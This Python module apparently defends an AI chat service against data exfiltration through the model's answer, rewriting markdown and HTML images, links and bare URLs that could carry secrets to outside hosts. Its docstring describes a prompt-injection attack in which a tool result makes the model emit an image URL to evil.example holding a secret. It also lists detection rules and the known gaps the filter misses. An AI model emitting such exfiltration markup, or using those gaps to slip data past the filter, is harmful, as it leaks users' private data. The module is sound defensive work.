"""Egress control for the model's answer (T5, issue 31 item 4): links and images that would carry
data out of the request are rewritten as inert text.

Threat: EchoLeak-style exfiltration. An injection in a tool result makes the model write
`![x](https://evil.example/p?d=<secret>)`; the chat UI fetches the image and the data leaves without
a click (through a link it leaves on a click). This module finds such constructs in the answer and
rewrites them; everything else is kept byte for byte. Pure code: no I/O, no configuration globals.

Constructs judged: markdown images `![alt](url "title")` and reference images `![alt][ref]`,
`![alt][]`, `![alt]` with their `[ref]: url` definitions (a definition is judged as an image when an
image used its label before it, and an image after a kept definition is judged on its own); links
`[text](url)`, reference links (through their definition) and the `](url)` tail of a link whose `[`
could not be paired (nested brackets); autolinks `<scheme:…>`; bare `http(s)://` and `www.` URLs in
text (kind "autolink": chat UIs linkify them); HTML tags' `src`/`srcset`/`poster`/`background`
(kind image) and `href`/`action`/`formaction` (kind link).

Each URL is read the way browsers do (tabs and newlines dropped, `\\` as `/`, any number of slashes
after `https:`, the host after the last `@`, percent-decoded, NFKC, lowercase), with markdown
escapes and HTML entities both undone and not: the strictest reading wins. Then, in order:
1. `javascript:`, `data:`, `vbscript:` → neutralised, always (host_not_allowed, host "").
2. Not absolute http(s) nor protocol-relative `//host` (relative, `mailto:`, …) → kept.
3. Host in `allowed_hosts` or a subdomain of one → kept.
4. The context holds no untrusted text → kept: nothing an injection could have planted.
5. An image, with `images="allowed_hosts"` → neutralised (host_not_allowed): fetched without a click.
6. The URL appears verbatim in the context, trusted or untrusted (compared as `//authority/path?query`:
   no scheme, lowercase authority, no fragment nor trailing `/`) → kept: copied from a document.
7. Its path, query, fragment, userinfo or sub-domain labels carry a context token → neutralised
   (carries_context_data). Tokens: runs of letters/digits of ≥ `min_token` characters of the text
   percent-decoded (`+` as space, up to twice), plus runs joined by `.-@+_:` (e-mail addresses, dates,
   ids) and digit groups split by single spaces (IBANs, card and phone numbers), plus the same of
   every base64/hex run of ≥ 8 characters decoded. A URL longer than the window counts as carrying data.
8. Otherwise → kept.

Rewriting: an image becomes `image "alt" (host, blocked)`, a link `link "text" (host, blocked)`, an
autolink or bare URL `link (host, blocked)` (`(blocked)` when there is no host; no quotes without a
text); a bare URL's trailing punctuation stays. No brackets, no scheme, a space before any
parenthesis: no renderer makes it a fetch or a link, and nothing of the URL's path or query is echoed.
Alts and link texts are scanned too (a bare URL inside a link text).

Scanning is one left-to-right pass. A construct is matched within a window that ends at the next
newline or `WINDOW` characters on, by regexes whose alternatives start with distinct characters and
whose repeats are possessive (no backtracking), so time is linear and `StreamingNeutraliser` holds
back less than one window. Limits: a construct spanning lines is caught through its bare URL only
(judged as a link, or as an image after `](`/`src=`); code spans are judged like text; data reshaped
beyond the above (split, reordered, encrypted) passes.
"""

from __future__ import annotations

import base64
import binascii
import html
import re
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Literal
from urllib.parse import unquote, unquote_plus

WINDOW = 2048
"""A construct is matched within this many characters of one line; a longer tail is released."""

Kind = Literal["image", "link", "autolink"]
_NEED = object()  # the text received so far does not decide yet (streaming only)
_Hit = tuple[str, int] | None | object

# Where a construct may start (`\Z`: the buffer's end, where a stream cannot tell yet); elsewhere
# `_match` would return None, so such positions are passed over as plain text.
_TRIGGER = re.compile(r"""!(?=\[|\Z)|\[(?!\[)|\](?=\(|\Z)|<(?=[A-Za-z]|\Z)|[hH](?=[tT]|\Z)"""
                      r"""|(?<![^\W_])[wW](?=[wW]|\Z)|(?<![^\s(<="'])/(?=/|\Z)""")
_ALNUM = re.compile(r"[^\W_]")
_CLOSE = re.compile(r"[\[\]]")
_TITLE = r"""(?:[ \t]++(?:"[^"]*+"|'[^']*+'|\([^()]*+\)))?[ \t]*+"""
_DEST = re.compile(r"[ \t]*+(?:<([^<>]*+)>|((?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*+\))*+))" + _TITLE + r"\)")
_DEF = re.compile(r"[ \t]*+(?:<([^<>]*+)>|([^\s<]\S*+))" + _TITLE)
_AUTO = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]*+)>")
_AUTO_OPEN = re.compile(r"<(?:[A-Za-z][A-Za-z0-9+.\-]{0,31}(?::[^<>\s]*+)?)?")
_BODY = r"""(?:[^>"'<]|"[^"]*+"|'[^']*+')*+"""
_TAG = re.compile(rf"<([A-Za-z][A-Za-z0-9\-]*+)(?=[\s/>])({_BODY})>")
_TAG_OPEN = re.compile(rf"<(?:[A-Za-z][A-Za-z0-9\-]*+(?:[\s/]{_BODY}(?:\"[^\"]*+|'[^']*+)?)?)?")
_ATTR = re.compile(r"""([^\s"'>/=]++)(?:\s*+=\s*+("[^"]*+"|'[^']*+'|[^\s"'=<>`]++))?""")
_SRC_ATTRS = frozenset({"src", "srcset", "poster", "background"})
_HREF_ATTRS = frozenset({"href", "action", "formaction"})
_NOT_LT = re.compile(r"[^<]*+")
_EXTENT = re.compile(r"[^\s<]*+")
_TRAIL = "?!.,:;*_~'\"`)>]}"
_LINE_START = re.compile(r"\n {0,3}\Z")
_LB_DEST = re.compile(r"\]\([ \t\n]*<?\Z")
_LB_SRC = re.compile(r"(?i)(?:src|srcset|poster|background)\s*=\s*[\"']?\Z")
_LB_HREF = re.compile(r"(?i)(?:href|action)\s*=\s*[\"']?\Z")
_CTX_URL = re.compile(r"(?i)(?:https?:)?//[^\s<>\"'`]++|\bwww\.[^\s<>\"'`]++")
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_AUTHORITY = re.compile(r"[^/?#]*+")
_UNSHOWN = re.compile(r"[^\w.\-:]")  # no host has these; dropped from what is reported
_DANGEROUS = frozenset({"javascript", "data", "vbscript"})
_C0 = "".join(map(chr, range(33)))
_DOTS = str.maketrans({"\u3002": ".", "\uff0e": ".", "\uff61": "."})
_MD_ESC = re.compile(r"\\([!-/:-@\[-`{-~])")
_WORD = re.compile(r"[^\W_]++")
_TIGHT = frozenset(".-@+_:")
_B64 = re.compile(r"[A-Za-z0-9+/_\-]{8,}+")
_HEX = re.compile(r"(?:[0-9a-fA-F]{2})++")


def _host(raw: str) -> str:
    """A host as browsers compare it: percent-decoded, NFKC, lowercase, ideographic dots as dots."""
    return unicodedata.normalize("NFKC", unquote(raw)).lower().translate(_DOTS).strip(".")


@dataclass(frozen=True)
class EgressPolicy:
    """The operator's settings: hosts always kept, how images are judged, the shortest data token."""

    allowed_hosts: tuple[str, ...] = ()
    images: Literal["allowed_hosts", "keep"] = "allowed_hosts"
    min_token: int = 6

    def __post_init__(self) -> None:
        if self.images not in ("allowed_hosts", "keep"):
            raise ValueError(f"images must be 'allowed_hosts' or 'keep', not {self.images!r}")
        if self.min_token < 1:
            raise ValueError("min_token must be at least 1")
        raw = (self.allowed_hosts,) if isinstance(self.allowed_hosts, str) else self.allowed_hosts
        hosts = (_host(str(h).strip().lower().removeprefix("*.")) for h in raw)
        object.__setattr__(self, "allowed_hosts", tuple(h for h in hosts if h))

    def allows(self, host: str) -> bool:
        """Whether `host` (normalised) is an allowed host or one of its subdomains."""
        return bool(host) and any(host == h or host.endswith("." + h) for h in self.allowed_hosts)


@dataclass(frozen=True)
class Neutralised:
    """One construct rewritten: its kind, the URL's host (never the URL) and why."""

    kind: Kind
    host: str
    reason: Literal["host_not_allowed", "carries_context_data"]


def _tokens(text: str) -> set[str]:
    """Lowercased runs of letters/digits, plus runs tied by `.-@+_:` and digit groups split by
    single spaces, joined (so `john.doe@corp.com` and `DE89 3704 0044` count as one value)."""
    found: set[str] = set()
    run: list[str] = []
    end, digits = 0, False
    for m in _WORD.finditer(text):
        word = m.group().lower()
        has_digit = not word.isalpha()
        gap = text[end:m.start()] if run else ""
        if run and (gap in _TIGHT or (gap == " " and has_digit and digits)):
            run.append(word)
        else:
            if len(run) > 1:
                found.add("".join(run))
            run = [word]
        found.add(word)
        end, digits = m.end(), has_digit
    if len(run) > 1:
        found.add("".join(run))
    return found


def _decode(run: str) -> list[str]:
    """The texts a run reads as in hex and in base64 (standard or URL-safe), where it does."""
    texts = []
    if len(run) % 2 == 0 and _HEX.fullmatch(run):
        texts.append(bytes.fromhex(run).decode("utf-8", "ignore"))
    b64 = run.replace("-", "+").replace("_", "/")
    b64 = b64[:-1] if len(b64) % 4 == 1 else b64 + "=" * (-len(b64) % 4)
    try:
        texts.append(base64.b64decode(b64, validate=True).decode("utf-8", "ignore"))
    except (binascii.Error, ValueError):
        pass
    return texts


def _decodings(raw: str) -> list[str]:
    """Texts hidden in base64/hex runs of ≥ 8 characters, aligned at the run and at its first `/`s."""
    texts: list[str] = []
    for m in _B64.finditer(raw):
        parts = m.group().split("/")
        for k in range(min(len(parts), 9)):
            for cand in {"/".join(parts[k:]), parts[k]}:
                if len(cand) >= 8:
                    texts.extend(_decode(cand))
    return texts


def _parse(url: str) -> tuple[str, str, str] | str | None:
    """(host, authority, rest) of an absolute http(s) or `//` URL, the scheme of a `javascript:`,
    `data:` or `vbscript:` URL, None for anything else."""
    u = url.replace("\t", "").replace("\n", "").replace("\r", "").strip(_C0)
    s = _SCHEME.match(u)
    if s:
        scheme = s[1].lower()
        if scheme in _DANGEROUS:
            return scheme
        if scheme not in ("http", "https"):
            return None
        rest = u[s.end():]
    elif u[:2].replace("\\", "/") == "//":
        rest = u
    else:
        return None
    rest = rest.replace("\\", "/").lstrip("/")
    authority = _AUTHORITY.match(rest).group()
    hostport = authority.rpartition("@")[2]
    host = hostport[1:].partition("]")[0] if hostport.startswith("[") else hostport.partition(":")[0]
    return _host(host), authority, rest[len(authority):]


def _key(authority: str, rest: str) -> str:
    """How a URL is compared with the context's: no scheme, lowercase authority, no fragment, no
    trailing `/` or punctuation."""
    return ("//" + authority.lower() + rest.partition("#")[0]).rstrip(_TRAIL + "/")


def _label(text: str) -> str:
    """A reference label as markdown matches it: case-folded, whitespace collapsed."""
    return " ".join(text.split()).casefold()


def _inert(kind: Kind, text: str, host: str) -> str:
    """The text a neutralised construct becomes: what it showed and the host, never the URL."""
    what = "image" if kind == "image" else "link"
    where = f"({host}, blocked)" if host else "(blocked)"
    text = text.strip()
    return f'{what} "{text}" {where}' if text else f"{what} {where}"


class EgressContext:
    """The request's context, as what the answer may not carry out: the tokens of every text, the
    URLs that appear in them (as `_key`s), and whether any text is untrusted. Built once per request
    from `untrusted` (tool results, prefetch results, resources) and `trusted` (the client's own
    messages); the tool loop adds results as they come."""

    def __init__(self, untrusted: Sequence[str], trusted: Sequence[str]) -> None:
        self.tokens: set[str] = set()
        self.urls: set[str] = set()
        self.has_untrusted = False
        self._trusted = list(trusted)
        """Learned only once an untrusted text arrives: without one nothing reads `tokens` or `urls`
        (most answers), so a request without tool output pays nothing here."""
        for text in untrusted:
            self.add_untrusted(text)

    def add_untrusted(self, text: str) -> None:
        """Adds one untrusted text (a tool result that just came back)."""
        if text:
            if not self.has_untrusted:
                self.has_untrusted = True
                for known in self._trusted:
                    self._learn(known)
                self._trusted = []
            self._learn(text)

    def _learn(self, text: str) -> None:
        self.tokens |= _tokens(text)
        for m in _CTX_URL.finditer(text.replace("\\/", "/")):
            for url in {m.group(), html.unescape(m.group())}:
                parsed = _parse("http://" + url if url[:1] in "wW" else url)
                if isinstance(parsed, tuple):
                    self.urls.add(_key(parsed[1], parsed[2]))


class _Scanner:
    """One pass over an answer, with the state a stream carries from one delta to the next."""

    def __init__(self, policy: EgressPolicy, context: EgressContext, done: list[Neutralised] | None = None,
                 prev: str = "\n") -> None:
        self.policy, self.context = policy, context
        self.done: list[Neutralised] = [] if done is None else done
        self.prev = prev  # the last raw characters before the position (lookbehind)
        self.bang = False  # the last `[` passed opened an image (`![`)
        self.swallow = False  # inside the rest of a neutralised URL longer than the window
        self.defs: dict[str, str] = {}  # reference label -> URL of a kept definition
        self.image_labels: set[str] = set()  # labels an image used before their definition

    def run(self, b: str, final: bool) -> tuple[str, int]:
        """Rewrites `b` from its start: the output, and how much of `b` is decided (all when final)."""
        out: list[str] = []
        i, n = 0, len(b)
        while i < n:
            if self.swallow:
                e = _EXTENT.match(b, i).end()
                self._note(b[i:e])
                self.swallow, i = e == n and not final, e
                continue
            m = _TRIGGER.search(b, i)
            j = m.start() if m else n
            if j > i:
                k = b.rfind("[", i, j)  # an unpaired `[`: what a later `](url)` belongs to
                if k >= 0:
                    self.bang = (b[k - 1] if k > i else self.prev[-1:]) == "!"
                out.append(b[i:j])
                self._note(b[i:j])
                i = j
                continue
            nl = b.find("\n", i, i + WINDOW)
            lim, full = (nl, True) if nl >= 0 else (i + WINDOW, True) if n >= i + WINDOW else (n, final)
            hit = self._match(b, i, lim, full)
            if hit is _NEED:
                break
            if hit is None and b[i] == "[":  # unpaired: what a later `](url)` belongs to
                self.bang = self.prev[-1:] == "!"
            text, end = hit if hit else (b[i], i + 1)  # type: ignore[misc]
            out.append(text)
            self._note(b[i:end])
            i = end
        return "".join(out), i

    def _note(self, raw: str) -> None:
        """Moves the lookbehind past `raw`."""
        self.prev = (self.prev + raw[-16:])[-16:]

    def _sub(self, text: str) -> str:
        """A link text, alt or tag body, scanned on its own (no brackets or `<` in it: nests at most twice)."""
        return _Scanner(self.policy, self.context, self.done, "[").run(text, True)[0] if _TRIGGER.search(text) else text

    def _match(self, b: str, i: int, lim: int, full: bool) -> _Hit:
        c = b[i]
        if c in "![":
            return self._bracket(b, i, i + (c == "!"), lim, full)
        if c == "]":
            return self._orphan(b, i, lim, full)
        if c == "<":
            return self._angle(b, i, lim, full)
        return self._bare(b, i, lim, full)

    def _bracket(self, b: str, i: int, o: int, lim: int, full: bool) -> _Hit:
        if o >= lim or b[o] != "[":
            return _NEED if o >= lim and not full else None
        m = _CLOSE.search(b, o + 1, lim)
        if not m or m.group() == "[":
            return _NEED if not m and not full else None
        e = m.start()
        text, n, image = b[o + 1:e], e + 1, o > i
        if n >= lim and not full:
            return _NEED
        nx = b[n] if n < lim else ""
        if nx == "(":
            d = _DEST.match(b, n + 1, lim)
            if d:
                url = d[1] if d[1] is not None else d[2]
                return self._construct("image" if image else "link", text, url, b[i:o + 1], b[e:d.end()], d.end())
            if not full:
                return _NEED
        if image:
            end, label = n, text
            if nx == "[":
                r = _CLOSE.search(b, n + 1, lim)
                if not r and not full:
                    return _NEED
                if r and r.group() == "]":
                    end, label = r.end(), b[n + 1:r.start()] or text
            key, self.bang = _label(label), True
            if key not in self.defs:
                self.image_labels.add(key)
                return b[i:o + 1] + self._sub(text) + b[e:end], end
            return self._construct("image", text, self.defs[key], b[i:o + 1], b[e:end], end)
        if nx == ":" and _LINE_START.search(self.prev):
            return self._definition(b, i, text, n + 1, lim, full)
        return None

    def _definition(self, b: str, i: int, label: str, p: int, lim: int, full: bool) -> _Hit:
        if not full:
            return _NEED  # a definition runs to the end of its line
        d = _DEF.fullmatch(b, p, lim) if lim < i + WINDOW else None
        if not d:
            return None
        key = _label(label)
        kind: Kind = "image" if key in self.image_labels else "link"
        verdict = self._judge(kind, d[1] if d[1] is not None else d[2])
        if verdict is None:
            self.defs.setdefault(key, d[1] if d[1] is not None else d[2])
            return b[i:lim], lim
        self.done.append(verdict)
        return _inert(kind, self._sub(label), verdict.host), lim

    def _construct(self, kind: Kind, text: str, url: str, head: str, tail: str, end: int) -> _Hit:
        verdict = self._judge(kind, url)
        if verdict is None:
            return head + self._sub(text) + tail, end
        self.done.append(verdict)
        return _inert(kind, self._sub(text), verdict.host), end

    def _orphan(self, b: str, i: int, lim: int, full: bool) -> _Hit:
        """`](url)` whose `[` was not paired (a nested image in a link text): judged on the last `[`."""
        if i + 1 >= lim or b[i + 1] != "(":
            return _NEED if i + 1 >= lim and not full else None
        d = _DEST.match(b, i + 2, lim)
        if not d:
            return None if full else _NEED
        kind: Kind = "image" if self.bang else "link"
        verdict = self._judge(kind, d[1] if d[1] is not None else d[2])
        if verdict is None:
            return b[i:d.end()], d.end()
        self.done.append(verdict)
        return "] " + _inert(kind, "", verdict.host), d.end()

    def _angle(self, b: str, i: int, lim: int, full: bool) -> _Hit:
        a = _AUTO.match(b, i, lim)
        if a:
            verdict = self._judge("autolink", a[1])
            if verdict is None:
                return b[i:a.end()], a.end()
            self.done.append(verdict)
            return _inert("autolink", "", verdict.host), a.end()
        t = _TAG.match(b, i, lim)
        if t:
            return self._tag(b, i, t, lim, full)
        if not full and lim in (_AUTO_OPEN.match(b, i, lim).end(), _TAG_OPEN.match(b, i, lim).end()):
            return _NEED
        return None

    def _tag(self, b: str, i: int, t: re.Match[str], lim: int, full: bool) -> _Hit:
        alt, verdict, kind = "", None, "link"
        for a in _ATTR.finditer(t[2]):
            name, value = a[1].lower(), (a[2] or "").strip("\"'")
            alt = value if name == "alt" else alt
            k: Kind | None = "image" if name in _SRC_ATTRS else "link" if name in _HREF_ATTRS else None
            urls = [u.split()[0] for u in value.split(",") if u.split()] if name == "srcset" else [value]
            for url in urls if k and verdict is None else ():
                verdict, kind = self._judge(k, url), k
                if verdict:
                    break
        if verdict is None:  # kept: still scan the rest of the tag (a URL in a style or title)
            head = 1 + len(t[1])
            return b[i:i + head] + self._sub(b[i + head:t.end()]), t.end()
        end, text = t.end(), ""
        if kind == "link" and t[1].lower() == "a":  # take the anchor's text when it closes plainly
            p = _NOT_LT.match(b, end, lim).end()
            close = b[p:min(p + 4, lim)].lower()
            if not full and (p == lim or (len(close) < 4 and "</a>".startswith(close))):
                return _NEED
            if close == "</a>":
                end, text = p + 4, b[t.end():p]
        self.done.append(verdict)
        return _inert(kind, self._sub(alt if kind == "image" else text), verdict.host), end

    def _bare(self, b: str, i: int, lim: int, full: bool) -> _Hit:
        c = b[i].lower()
        if c == "w" and _ALNUM.match(self.prev[-1:]):
            return None
        slot = self._slot()
        if c == "/" and slot is None:
            return None
        starts, scheme = {"/": (("//",), ""), "w": (("www.",), "http://")}.get(c, (("http://", "https://"), ""))
        seen = b[i:min(lim, i + 8)].lower()
        if not seen.startswith(starts):
            viable = not full and lim - i < 8 and any(s.startswith(seen) for s in starts)
            return _NEED if viable else None
        e = _EXTENT.match(b, i, lim).end()
        if e == lim and not full:
            return _NEED
        url, capped = b[i:e], e == i + WINDOW
        kind: Kind = slot or "autolink"
        verdict = self._judge(kind, scheme + url, capped)
        if verdict is None:
            return url, e
        self.done.append(verdict)
        self.swallow = capped
        return _inert(kind, "", verdict.host) + ("" if capped else url[len(url.rstrip(_TRAIL)):]), e

    def _slot(self) -> Kind | None:
        """What a bare URL right after `](`, `src=` or `href=` stands for (a construct split by a
        newline), from the lookbehind."""
        if _LB_DEST.search(self.prev):
            return "image" if self.bang else "link"
        return "image" if _LB_SRC.search(self.prev) else "link" if _LB_HREF.search(self.prev) else None

    def _judge(self, kind: Kind, url: str, capped: bool = False) -> Neutralised | None:
        """The verdict on one URL, read with markdown escapes and HTML entities undone and not."""
        md = _MD_ESC.sub(r"\1", url)
        for reading in dict.fromkeys((url, html.unescape(url), md, html.unescape(md))):
            verdict = self._judge_one(kind, reading, capped)
            if verdict:
                return verdict
        return None

    def _judge_one(self, kind: Kind, url: str, capped: bool) -> Neutralised | None:
        parsed = _parse(url)
        if parsed is None:
            return None
        if isinstance(parsed, str):
            return Neutralised(kind, "", "host_not_allowed")
        host, authority, rest = parsed
        shown = _UNSHOWN.sub("", host)
        if self.policy.allows(host) or not self.context.has_untrusted:
            return None
        if kind == "image" and self.policy.images == "allowed_hosts":
            return Neutralised(kind, shown, "host_not_allowed")
        if not capped and _key(authority, rest) in self.context.urls:
            return None
        if capped or self._carries(authority, host, rest):
            return Neutralised(kind, shown, "carries_context_data")
        return None

    def _carries(self, authority: str, host: str, rest: str) -> bool:
        """Whether the URL's data parts hold a token of the context (plainly or base64/hex-encoded)."""
        payload = " ".join((authority.rpartition("@")[0], *host.split(".")[:-2], rest))
        once = unquote_plus(payload)
        texts = {payload, once, unquote_plus(once), *_decodings(unquote(payload))}
        k, known = self.policy.min_token, self.context.tokens
        return any(len(w) >= k and w in known for text in texts for w in _tokens(text))


def neutralise(text: str, policy: EgressPolicy, context: EgressContext) -> tuple[str, list[Neutralised]]:
    """`text` with every offending markdown/HTML image or link rewritten as inert text, and what was done."""
    scanner = _Scanner(policy, context)
    return scanner.run(text, True)[0], scanner.done


class StreamingNeutraliser:
    """`neutralise` over a stream of text deltas: `feed(delta)` returns what can be sent now,
    holding back only a possibly-unfinished construct (less than `WINDOW` characters, never past a
    newline), and `flush()` the rest at the end. Everything returned, concatenated, equals
    `neutralise(whole_text)[0]` for any split; `neutralised` lists what was done so far."""

    def __init__(self, policy: EgressPolicy, context: EgressContext) -> None:
        self._scanner = _Scanner(policy, context)
        self._held = ""

    @property
    def neutralised(self) -> list[Neutralised]:
        return self._scanner.done

    def feed(self, delta: str) -> str:
        self._held += delta
        out, used = self._scanner.run(self._held, False)
        self._held = self._held[used:]
        return out

    def flush(self) -> str:
        out, _ = self._scanner.run(self._held, True)
        self._held = ""
        return out
